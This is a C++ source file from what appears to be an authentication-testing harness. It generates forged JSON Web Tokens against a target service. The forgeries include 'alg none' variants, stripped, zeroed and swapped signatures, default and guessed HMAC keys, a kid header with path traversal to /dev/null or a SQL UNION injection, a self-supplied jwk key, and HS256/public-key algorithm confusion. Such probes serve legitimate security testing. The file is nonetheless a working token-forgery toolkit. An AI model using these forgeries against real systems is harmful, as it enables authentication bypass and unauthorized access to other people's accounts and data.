#include "harness/probe/toolbox.hpp"
#include "probes/token/forged/probe.hpp"

namespace watertight::probes::token::forged {

using probe::jwt;

// Sent as they are: services that look the key up elsewhere may know these, too.
static constexpr std::string_view sent_keys[] = {
    "", "secret", "changeme", "password", "your-256-bit-secret", "key"};

static std::string header(std::string_view alg)
{
    return base64url(nlohmann::json{{"alg", alg}, {"typ", "JWT"}}.dump());
}

static jwt with_header(jwt t, std::string const& name, nlohmann::ordered_json value)
{
    t.header["alg"] = "HS256";
    t.header[name] = std::move(value);
    return t;
}

// The header says where the key is: at a path that everybody can read as empty, in a query that
// returns what its author wrote, or in the header itself.
static void add_named_keys(jwt const& t, std::vector<forgery>& out)
{
    static constexpr std::string_view chosen = "watertight";
    struct named {
        char const* what;
        char const* kid;
        std::string_view key;
    };
    static constexpr named all[] = {
        {"kid that climbs to /dev/null", "../../../../../../../../dev/null", ""},
        {"kid /dev/null", "/dev/null", ""},
        {"kid with SQL", "wt' UNION SELECT 'watertight", chosen},
        {"kid with SQL and a comment", "wt' UNION SELECT 'watertight'-- ", chosen},
    };
    for (auto const& [what, kid, key] : all) {
        auto const token = probe::sign(with_header(t, "kid", kid), key);
        if (token) out.push_back({what, *token});
    }
    nlohmann::ordered_json const own_key{{"kty", "oct"}, {"k", base64url(chosen)}};
    auto const token = probe::sign(with_header(t, "jwk", own_key), chosen);
    if (token) out.push_back({"its own key in its header", *token});
}

static void add_keys(
    std::string_view victims,
    jwt const& t,
    std::vector<std::string> const& names,
    std::vector<forgery>& out
)
{
    auto const payload = split(victims, '.')[1];
    for (auto const key : sent_keys) {
        auto plain = t;
        plain.header = {{"alg", "HS256"}, {"typ", "JWT"}};
        auto const token = probe::sign(plain, key);
        // The claims to the letter, whatever this writer makes of them.
        if (token && split(*token, '.')[1] == payload) {
            out.push_back({fmt::format("HS256 with the key '{}'", key), *token});
        }
    }
    auto const guessed = probe::guess_key(victims, probe::weak_keys(names));
    if (!guessed) return;
    auto mine = t;
    // A token that was never issued: the issuer's own copy would prove nothing.
    mine.claims["jti"] = "watertight";
    if (auto const token = probe::sign(mine, *guessed)) {
        auto const name = fmt::format("{} with the guessed key '{}'", mine.algorithm(), *guessed);
        out.push_back({name, *token});
    }
}

static char other_than(char c)
{
    if (c >= '0' && c <= '9') return c == '7' ? '3' : '7';
    if (c >= 'A' && c <= 'Z') return c == 'A' ? 'B' : 'A';
    return c == 'a' ? 'b' : 'a';
}

static std::string changed_at(std::string text, std::size_t place)
{
    text[place] = other_than(text[place]);
    return text;
}

std::vector<forgery>
forge(std::string_view victims, std::string_view own, std::vector<std::string> const& names)
{
    std::vector<forgery> out;
    auto const parsed = probe::read_jwt(victims);
    if (!parsed) return out;
    auto const parts = split(victims, '.');
    std::string const payload{parts[1]};
    std::string const original{parts[0]};
    for (auto const* const none : {"none", "None", "NONE", "nOnE"}) {
        out.push_back({fmt::format("alg {}", none), header(none) + "." + payload + "."});
    }
    out.push_back({"alg none, no second dot", header("none") + "." + payload});
    out.push_back(
        {"alg none, signature kept", header("none") + "." + payload + "." + std::string{parts[2]}}
    );
    out.push_back({"signature left out", original + "." + payload + "."});
    out.push_back(
        {"signature of zeros", original + "." + payload + "." + base64url(std::string(32, '\0'))}
    );
    if (parts[2].size() > 8) {
        // Not the last one, whose lowest bits stand for nothing.
        auto const changed = changed_at(std::string{parts[2]}, parts[2].size() / 2);
        out.push_back({"signature changed by a character", original + "." + payload + "." + changed}
        );
    }
    if (probe::read_jwt(own)) {
        out.push_back(
            {"signature of another token",
             fmt::format("{}.{}.{}", original, payload, split(own, '.')[2])}
        );
    }
    add_keys(victims, *parsed, names, out);
    add_named_keys(*parsed, out);
    return out;
}

std::vector<forgery> mutate(std::string_view victims)
{
    std::vector<forgery> out;
    if (victims.size() < 16 || probe::read_jwt(victims)) return out;
    std::string const token{victims};
    out.push_back({"opaque, changed in the middle", changed_at(token, token.size() / 2)});
    out.push_back({"opaque, changed at three quarters", changed_at(token, token.size() * 3 / 4)});
    out.push_back({"opaque, changed at its beginning", changed_at(token, 0)});
    out.push_back({"opaque, cut in half", token.substr(0, token.size() / 2)});
    return out;
}

std::vector<forgery> confuse(std::string_view victims, std::vector<std::string> const& public_keys)
{
    std::vector<forgery> out;
    auto parsed = probe::read_jwt(victims);
    if (!parsed || parsed->algorithm().starts_with("HS")) return out;
    parsed->header["alg"] = "HS256";
    for (auto const& key : public_keys) {
        auto const trimmed = std::string{trim(key)};
        for (auto const& written : {key, trimmed}) {
            auto const token = probe::sign(*parsed, written);
            if (token) out.push_back({"HS256 with the public key", *token});
        }
    }
    return out;
}

} // namespace watertight::probes::token::forged
